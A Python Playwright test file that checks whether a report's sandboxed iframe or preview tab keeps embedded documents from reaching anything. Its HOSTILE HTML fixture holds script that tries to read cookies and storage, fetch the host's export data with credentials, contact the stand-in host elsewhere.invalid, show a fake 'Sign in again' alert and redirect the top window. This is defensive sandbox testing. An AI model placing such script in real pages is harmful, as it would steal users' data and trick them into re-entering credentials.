"""What a report's document may do in its frame: run, and reach nothing, neither us nor anybody else."""

import json
import re
import time

import pytest
from playwright.sync_api import expect

HOSTILE = """<!doctype html><html lang="en"><head><title>Hostile</title>
<base href="https://elsewhere.invalid/">
<link rel="stylesheet" href="https://elsewhere.invalid/style.css">
<script src="/static/js/page.js"></script><script src="https://elsewhere.invalid/script.js"></script></head>
<body><h1>Hostile</h1><img src="/favicon.ico" alt=""><img src="https://elsewhere.invalid/pixel.png" alt="">
<iframe src="/runs/" title="inner"></iframe>
<object data="/runs/" type="text/html"></object>
<form id="form" method="post" action="OURS/appearance/" target="_top"><input name="theme" value="dark"></form>
<p id="told"></p>
<script>
const ours = "OURS", told = {origin: self.origin};
async function attempt(name, act) {
  try {
    const value = await act();
    told[name] = value === null || value === undefined ? "nothing" : "did it: " + String(value).slice(0, 80);
  } catch (error) { told[name] = "refused: " + error.name; }
}
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("set cookie", () => { document.cookie = "theme=dark; path=/"; return "set"; });
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => new Promise((resolve, reject) => {
    const asked = indexedDB.open("x");
    asked.onsuccess = () => resolve("open"); asked.onerror = () => reject(asked.error);
  }));
  await attempt("caches", () => caches.open("x"));
  await attempt("fetch home", () => fetch("/", {credentials: "include"}));
  await attempt("fetch ours", () => fetch(ours + "/runs/export.json", {credentials: "include"}));
  await attempt("fetch elsewhere", () => fetch("https://elsewhere.invalid/", {mode: "no-cors"}));
  await attempt("request", () => new Promise((resolve, reject) => {
    const asked = new XMLHttpRequest(); asked.open("GET", ours + "/"); asked.onload = () => resolve("answered");
    asked.onerror = () => reject(new Error("no answer")); asked.send();
  }));
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket("wss://elsewhere.invalid/"); socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("closed"));
  }));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve("began"); worker.onerror = () => reject(new Error("not begun"));
  }));
  await attempt("service worker", () => navigator.serviceWorker.register("/static/js/page.js"));
  await attempt("eval", () => (0, eval)("1 + 1"));
  await attempt("popup", () => open(ours + "/runs/"));
  await attempt("alert", () => alert("Sign in again"));
  await attempt("form", () => document.getElementById("form").submit());
  await attempt("beacon", () => navigator.sendBeacon(ours + "/appearance/", "theme=dark") || null);
  if (parent !== self) {
    await attempt("parent", () => parent.document.title);
    await attempt("top address", () => top.location.href);
    await attempt("top", () => { top.location = "https://elsewhere.invalid/top"; return "asked"; });
    await attempt("parent move", () => { parent.location.replace(ours + "/runs/"); return "asked"; });
  }
  document.getElementById("told").textContent = JSON.stringify(told);
})();
</script></body></html>"""


SILENT = {"beacon"}
"""Chromium says yes before it looks whether it may; what counts is that nothing is sent."""


@pytest.fixture
def hostile(carrot):
    """The address of a report whose document tries everything."""
    carrot.stand_in.write_reports(HOSTILE.replace("OURS", carrot.product.address))
    yield carrot.report("succeeded")
    carrot.stand_in.write_reports("")


@pytest.fixture
def page(open_page, carrot):
    """The browser says for each thing tried that it is refused; that is no complaint here."""
    yield open_page(carrot.product)
    open_page.complaints.clear()


@pytest.fixture
def sent(page):
    """Addresses that were asked, by any frame, worker or tab; what a policy refuses never comes so far."""
    addresses = []

    def record(route):
        addresses.append(route.request.url)
        route.continue_()

    page.context.route("**/*", record)
    return addresses


@pytest.fixture
def surprises(page):
    """Tabs and dialogs that were opened."""
    seen = []
    page.context.on("page", lambda opened: seen.append(opened.url))
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    return seen


def told(frame):
    """What the document found that it can do."""
    expect(frame.locator("#told")).not_to_be_empty()
    return json.loads(frame.locator("#told").text_content())


def done(found):
    """What of it came about."""
    return {name: what for name, what in found.items() if what.startswith("did it") and name not in SILENT}


def document(page):
    """The frame of the document."""
    page.frame_locator("iframe").locator("#told").wait_for(state="attached")
    return page.frames[1]


def test_a_document_in_its_frame_reaches_nothing(page, sent, surprises, hostile):
    page.goto(hostile, wait_until="load")
    found = told(document(page))
    assert found.pop("origin") == "null"
    assert done(found) == {}
    assert page.url.endswith(hostile)
    assert surprises == []
    assert asked_by_documents(sent) == []


def test_a_document_cannot_leave_its_frame_for_elsewhere(page, sent, hostile):
    page.goto(hostile, wait_until="load")
    frame = document(page)
    told(frame)
    frame.evaluate("() => { location = 'https://elsewhere.invalid/left?' + document.title; }")
    page.wait_for_timeout(500)
    assert asked_by_documents(sent) == []
    assert page.url.endswith(hostile)


def test_a_document_in_a_tab_of_its_own_reaches_nothing(page, sent, surprises, hostile):
    page.goto(f"{hostile}preview/", wait_until="load")
    assert page.url.startswith("http://localhost:")
    found = told(page)
    assert found.pop("origin") == "null"
    assert done(found) == {}
    assert surprises == []
    assert asked_by_documents(sent) == []
    assert page.context.cookies("http://localhost") == []


def asked_by_documents(sent):
    """What was asked beside our page with its files, and beside the document itself."""
    own = re.compile(r"http://127\.0\.0\.1:\d+/(static|reports)/|http://localhost:\d+/reports/frame/[^/]+/$")
    return [address for address in sent if not own.match(address)]


def test_a_document_without_a_link_is_read_by_keyboard_alone(open_page, carrot):
    page = open_page(carrot.product)
    page.goto(carrot.report("succeeded", place=1), wait_until="load")
    page.set_viewport_size({"width": 1000, "height": 500})
    way = page.get_by_role("link", name="Into the document")
    page.get_by_role("link", name="Open in a new tab").focus()
    page.keyboard.press("Tab")
    expect(way).to_be_focused()
    expect(way).to_be_in_viewport()
    page.keyboard.press("Enter")
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("End")
    # The frame lets nothing evaluate text, so that the browser's own waiting is of no use in it.
    deadline = time.monotonic() + 15
    while not page.frames[1].evaluate("scrollY") and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert page.frames[1].evaluate("scrollY") > 0
    page.keyboard.press("Shift+Tab")
    expect(way).to_be_focused()
